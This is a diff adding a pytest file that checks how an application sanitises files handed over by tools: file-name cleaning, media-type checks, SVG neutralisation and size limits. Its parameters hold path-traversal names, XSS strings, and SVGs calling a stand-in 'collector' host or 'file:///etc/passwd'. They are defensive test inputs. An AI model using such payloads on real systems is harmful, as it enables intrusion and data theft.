@@ -1,0 +1,128 @@
+"""What becomes of files that hostile tools hand over."""
+
+import hashlib
+from pathlib import Path
+
+import pytest
+
+from activities.documents.artifacts import ArtifactStore
+from activities.tool_outputs import MOST_BYTES, MOST_FILES, MadeFile, keep, media_type, safe_name
+from chargehand.contracts import Artifact
+
+PNG = b"\x89PNG\r\n\x1a\nrest"
+
+
+@pytest.mark.parametrize(
+    ("name", "safe"),
+    [
+        ("plot.png", "plot.png"),
+        ("../../etc/passwd", "passwd"),
+        ("..\\..\\boot.ini", "boot.ini"),
+        ("/etc/cron.d/job", "job"),
+        ("..", "file"),
+        ("", "file"),
+        (".bashrc", "bashrc"),
+        ("a\0b\n\x1b[31mc.png", "a_b_31mc.png"),
+        ("\u202egnp.exe", "_gnp.exe"),
+        ("Umsätze (März) 2026.csv", "Umsätze (März) 2026.csv"),
+        ("%2e%2e%2fx.png", "_2e_2e_2fx.png"),
+        ("x" * 500 + ".png", "x" * 96 + ".png"),
+        ("a.png/", "a.png"),
+        ('"><script>.svg', "_script_.svg"),
+    ],
+)
+def test_a_name_is_a_name(name: str, safe: str) -> None:
+    """No folder, no control character, no hidden file, whatever the tool called it."""
+    assert safe_name(name) == safe
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "told"),
+    [
+        ("a.png", PNG, "image/png"),
+        ("a.PNG", PNG, "image/png"),
+        ("a.jpg", b"\xff\xd8\xff\xe0", "image/jpeg"),
+        ("a.pdf", b"%PDF-1.7", "application/pdf"),
+        ("a.csv", b"a,b\n1,2\n", "text/csv"),
+        ("a.json", b"{}", "application/json"),
+        ("a.txt", b"words", "text/plain"),
+        ("a.py", b"print()", "text/plain"),
+        ("a.html", b"<script>fetch('//evil')</script>", "text/plain"),
+        ("a.png", b"<svg onload=alert(1)>", "application/octet-stream"),
+        ("a.png", b"%PDF-1.7", "application/octet-stream"),
+        ("a.pkl", b"\x80\x04\x95", "application/octet-stream"),
+        ("a.txt", b"a\0b", "application/octet-stream"),
+        ("a.csv", b"\xff\xfe", "application/octet-stream"),
+        ("noname", PNG, "application/octet-stream"),
+    ],
+)
+def test_a_file_is_only_what_its_name_and_its_content_agree_on(name: str, content: bytes, told: str) -> None:
+    """A page is never served as one, and a picture that is none is not called a picture."""
+    assert media_type(name, content) == told
+
+
+@pytest.mark.parametrize(
+    "drawing",
+    [
+        "<svg><script>alert(1)</script></svg>",
+        "<svg><SCRIPT href='x'/></svg>",
+        "<svg onload='alert(1)'></svg>",
+        "<svg><a href='javascript:alert(1)'>x</a></svg>",
+        "<svg><image href='http://collector/?q=secret'/></svg>",
+        "<svg><image xlink:href = 'file:///etc/passwd'/></svg>",
+        "<svg><use href=//collector/x.svg#y></svg>",
+        "<svg><style>@import 'http://collector'</style></svg>",
+        "<svg><rect fill='url(http://collector/x)'/></svg>",
+        "<svg><foreignObject><iframe/></foreignObject></svg>",
+        "<svg><animate attributeName='href' to='x'/></svg>",
+        '<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>',
+        "no drawing at all",
+    ],
+)
+def test_a_drawing_that_could_do_something_is_text(drawing: str) -> None:
+    """Opening a kept drawing runs nothing and asks nobody."""
+    assert media_type("a.svg", drawing.encode()) == "text/plain"
+
+
+def test_a_drawing_that_only_draws_is_one() -> None:
+    """References within the drawing, and its usual heading, are no reason to refuse it."""
+    drawing = (
+        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd">'
+        '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><g clip-path="url(#c)"><use xlink:href="#a"/>'
+        '<image href="data:image/png;base64,aGk="/></g></svg>'
+    )
+
+    assert media_type("a.svg", drawing.encode()) == "image/svg+xml"
+
+
+async def test_files_are_kept_under_names_of_their_own(tmp_path: Path) -> None:
+    """Two files of one name are two, on systems that do not tell cases apart as well; the URI can be read back."""
+    store = ArtifactStore(tmp_path)
+    files = [MadeFile(name=name, content=PNG, title="Sales") for name in ("x y.png", "dir/x y.png", "X Y.PNG")]
+
+    artifacts, left_out = await keep(store, files)
+
+    digest = hashlib.sha256(PNG).hexdigest()
+    names = ["x y.png", "x y (2).png", "X Y (3).PNG"]
+    uris = [f"artifact:{digest}/{name}" for name in ("x%20y.png", "x%20y%20%282%29.png", "X%20Y%20%283%29.PNG")]
+    assert artifacts == tuple(
+        Artifact(uri=uri, name=name, media_type="image/png", bytes=len(PNG), title="Sales")
+        for uri, name in zip(uris, names, strict=True)
+    )
+    assert left_out == ()
+    assert store.read(digest) == PNG
+
+
+async def test_too_much_is_left_out_and_named(tmp_path: Path) -> None:
+    """Number, size and sum are bounded, and who made the files is told which were lost."""
+    large = b"x" * MOST_BYTES
+    many = [MadeFile(name=f"{number}.txt", content=b"1") for number in range(MOST_FILES + 1)]
+    sizes = [MadeFile(name="huge.txt", content=large + b"x")]
+    sizes += [MadeFile(name=f"{number}.txt", content=large) for number in range(3)]
+
+    kept_many, lost_many = await keep(ArtifactStore(tmp_path), many)
+    kept_sizes, lost_sizes = await keep(ArtifactStore(tmp_path), sizes)
+
+    assert (len(kept_many), lost_many) == (MOST_FILES, ("10.txt: only 10 files a call are kept",))
+    assert [artifact.name for artifact in kept_sizes] == ["0.txt", "1.txt"]
+    assert lost_sizes == ("huge.txt: larger than 10 MB", "2.txt: all files together may have 20 MB")
